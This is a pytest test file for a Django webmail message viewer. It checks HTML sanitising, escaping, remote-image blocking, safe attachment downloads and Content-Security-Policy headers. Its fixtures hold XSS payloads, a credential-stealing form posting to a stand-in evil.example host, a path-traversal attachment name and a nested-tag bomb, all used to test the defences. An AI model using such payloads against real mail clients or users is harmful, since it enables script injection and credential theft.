"""Reading a message: plain text escaped, hostile HTML made safe, attachments as downloads."""

import re

from tests.webmail.conftest import deliver, make_message

HOSTILE = """<html><head><title>hidden title</title>
<style>body { background: url(https://tracker.example/css.png) }</style>
<script>document.title = 'pwned'</script></head>
<body onload="alert(1)">
<p style="color: red; background-image: url(https://tracker.example/bg.png); position: fixed">
Dear customer</p>
<img src="https://tracker.example/pixel.gif" onerror="alert('onerror')" alt="pixel">
<img src="x" onerror="alert(2)">
<a href="javascript:alert(3)">click me</a>
<a href="https://example.org/ok">a real link</a>
<iframe src="https://evil.example/frame">no frames</iframe>
<form action="https://evil.example/steal"><input name="password"><button>Go</button></form>
<svg onload="alert(4)"><circle r="3"/></svg>
<object data="https://evil.example/x.swf"></object>
<base href="https://evil.example/">
<meta http-equiv="refresh" content="0;url=https://evil.example/">
</body></html>"""


def _body(response) -> str:
    page = response.content.decode()
    return page[page.index('<article class="mail-body">'):page.index("</article>")]


def test_plain_text_is_escaped_with_its_line_breaks(as_jane, jane):
    stored = deliver(jane.address, make_message(
        subject="<b>bold</b> subject", body="Line one <script>alert(1)</script>\nLine two & more"))
    response = as_jane.get(f"/webmail/m/{stored.uid}/")
    page = response.content.decode()
    assert response.status_code == 200
    assert "&lt;b&gt;bold&lt;/b&gt; subject" in page
    body = _body(response)
    assert "Line one &lt;script&gt;alert(1)&lt;/script&gt;\nLine two &amp; more" in body
    assert "<script" not in body
    assert 'class="mail-text"' in body


def test_hostile_html_loses_scripts_handlers_frames_forms_and_fetching_styles(as_jane, jane):
    stored = deliver(jane.address, make_message(subject="Offer", html=HOSTILE))
    response = as_jane.get(f"/webmail/m/{stored.uid}/")
    body = _body(response).lower()
    for gone in ("<script", "onload", "onerror", "javascript:", "<iframe", "<form", "<input",
                 "<svg", "<object", "<base", "<meta", "<style", "url(", "tracker.example",
                 "position", "hidden title", "evil.example"):
        assert gone not in body, gone
    assert "dear customer" in body and "color:red" in body
    assert 'href="https://example.org/ok"' in body and 'rel="noopener noreferrer nofollow"' in body
    assert "1 remote image was not loaded" in response.content.decode()
    policy = response["Content-Security-Policy"]
    assert "default-src 'self'" in policy and "img-src 'self' data:;" in policy
    assert "script-src 'self'" in policy and "frame-src 'none'" in policy


def test_remote_images_load_only_after_the_reader_asks(as_jane, jane):
    stored = deliver(jane.address, make_message(
        subject="Pictures", html='<p>Look</p><img src="https://images.example/cat.jpg" alt="cat">'))
    first = as_jane.get(f"/webmail/m/{stored.uid}/")
    assert "images.example" not in _body(first)
    assert "Show remote images" in first.content.decode()
    assert f'href="/webmail/m/{stored.uid}/?images=1"' in first.content.decode()
    asked = as_jane.get(f"/webmail/m/{stored.uid}/?images=1")
    assert 'src="https://images.example/cat.jpg"' in _body(asked)
    assert "Show remote images" not in asked.content.decode()
    assert "img-src 'self' data: http: https:" in asked["Content-Security-Policy"]
    assert "script-src 'self'" in asked["Content-Security-Policy"]


def test_a_cid_image_of_the_message_is_shown_through_its_part(as_jane, jane):
    raw = make_message(subject="Logo", html='<p>Logo:</p><img src="cid:logo@example.net">',
                       attachments=[(b"\x89PNG\r\n\x1a\nfake", "image", "png", "logo.png",
                                     {"cid": "<logo@example.net>", "disposition": "inline"})])
    stored = deliver(jane.address, raw)
    body = _body(as_jane.get(f"/webmail/m/{stored.uid}/"))
    [source] = re.findall(r'<img src="([^"]+)"', body)
    assert source.startswith(f"/webmail/m/{stored.uid}/parts/")
    image = as_jane.get(source)
    assert image.status_code == 200 and image["Content-Type"] == "image/png"
    assert image.content == b"\x89PNG\r\n\x1a\nfake"


def test_attachments_download_with_a_safe_name_and_never_as_a_page(as_jane, jane):
    raw = make_message(subject="Files", attachments=[
        (b"<script>alert(1)</script>", "text", "html", '../../etc/"evil".html', {}),
        (b"%PDF-1.4 report", "application", "pdf", "Q3 report.pdf", {}),
    ])
    stored = deliver(jane.address, raw)
    page = as_jane.get(f"/webmail/m/{stored.uid}/").content.decode()
    links = re.findall(r'<a href="(/webmail/m/[^"]+/parts/\d+/)" download>([^<]+)</a>', page)
    assert [name for _url, name in links] == ["evil_.html", "Q3 report.pdf"]
    html = as_jane.get(links[0][0])
    assert html["Content-Type"] == "application/octet-stream"
    assert html["Content-Disposition"] == 'attachment; filename="evil_.html"'
    assert html["X-Content-Type-Options"] == "nosniff"
    assert "sandbox" in html["Content-Security-Policy"]
    assert html.content == b"<script>alert(1)</script>"
    pdf = as_jane.get(links[1][0])
    assert pdf["Content-Type"] == "application/pdf"
    assert pdf["Content-Disposition"] == 'attachment; filename="Q3 report.pdf"'
    assert as_jane.get(f"/webmail/m/{stored.uid}/parts/99/").status_code == 404


def test_every_webmail_page_carries_the_strict_policy(as_jane, jane):
    stored = deliver(jane.address, make_message())
    for path in ("/webmail/", f"/webmail/m/{stored.uid}/", "/webmail/compose/"):
        policy = as_jane.get(path)["Content-Security-Policy"]
        assert "default-src 'self'" in policy and "object-src 'none'" in policy, path


def test_an_operator_without_a_mailbox_is_told_so(client, db):
    from django.contrib.auth import get_user_model

    operator = get_user_model().objects.create_superuser("admin", "correct-horse-battery")
    client.force_login(operator)
    response = client.get("/webmail/")
    assert response.status_code == 200
    assert "Your login has no mailbox" in response.content.decode()
    assert client.get("/webmail/compose/").status_code == 404
    assert ">Web mail<" not in client.get("/me/").content.decode()


def test_the_menu_links_web_mail_for_every_mailbox(client, jane, postmaster):
    for account in (jane, postmaster):
        client.force_login(account)
        assert '<a href="/webmail/">Web mail</a>' in client.get("/me/").content.decode()


def test_the_web_mail_needs_a_login(client, jane):
    stored = deliver(jane.address, make_message())
    for path in ("/webmail/", f"/webmail/m/{stored.uid}/", "/webmail/compose/"):
        response = client.get(path)
        assert response.status_code == 302 and "/login" in response["Location"]


def test_broken_messages_are_listed_and_read_without_error(as_jane, jane):
    garbage = [b"no header at all", b"Subject: =?bogus?Q?x?=\nDate: yesterday\n"
               b"Content-Type: multipart/mixed; boundary=\"never\"\n\n--nope\n",
               b"From: \xff\xfe <broken@\nContent-Type: text/html; charset=no-such\n\n<b>x</b>"]
    stored = [deliver(jane.address, data) for data in garbage]
    assert as_jane.get("/webmail/").status_code == 200
    for sort in ("from", "subject", "size", "date"):
        assert as_jane.get(f"/webmail/?sort={sort}").status_code == 200
    for message in stored:
        assert as_jane.get(f"/webmail/m/{message.uid}/").status_code == 200


def test_html_nested_too_deeply_for_the_sanitizer_is_shown_as_its_text(as_jane, jane):
    """50,000 nested tags would cost the sanitizer tens of seconds: the reader gets the
    message's text (escaped) instead, at once; ordinary HTML is still shown as HTML."""
    bomb = "<div>" * 50_000 + "Win a <b>prize</b> &amp; more<script>alert(1)</script>" + \
        "</div>" * 50_000
    stored = deliver(jane.address, make_message(subject="Bomb", html=bomb))
    response = as_jane.get(f"/webmail/m/{stored.uid}/")
    assert response.status_code == 200
    body = _body(response)
    assert 'class="mail-text"' in body
    assert "Win a  prize  &amp; more" in body
    assert body.count("<div") < 5 and "<b>" not in body and "<script" not in body

    nested = "<div>" * 200 + "<b>Deep but fine</b>" + "</div>" * 200
    stored = deliver(jane.address, make_message(subject="Fine", html=nested))
    body = _body(as_jane.get(f"/webmail/m/{stored.uid}/"))
    assert "<b>Deep but fine</b>" in body
